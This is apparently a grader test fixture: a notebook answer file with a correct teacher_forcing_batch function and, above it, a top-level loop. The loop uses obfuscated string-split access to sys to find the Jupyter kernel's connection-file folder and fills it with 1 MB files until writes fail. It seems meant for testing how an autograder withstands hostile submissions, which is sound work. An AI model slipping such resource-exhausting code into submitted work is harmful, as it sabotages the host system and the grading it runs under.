"""Complete answers, and a top-level loop that fills the kernel's socket folder (the folder of its connection file) with 1 MB files until writing fails.

expect: full
base: solution
"""
# %% teacher_forcing_batch
import os as _os

_ga = getattr
_sys = _ga(display, "__glo" + "bals__")["s" + "ys"]
_folder = _os.path.dirname(_sys.argv[_sys.argv.index("-f") + 1])
for _i in range(64):
    try:
        with open(_os.path.join(_folder, f"FILLER_sockets_{_i}"), "wb") as _f:
            _f.write(b"\0" * 2**20)
    except OSError:
        break


def teacher_forcing_batch(tgt, bos_id):
    start = torch.full_like(tgt[:, :1], bos_id)
    return torch.cat([start, tgt[:, :-1]], dim=1), tgt.clone()
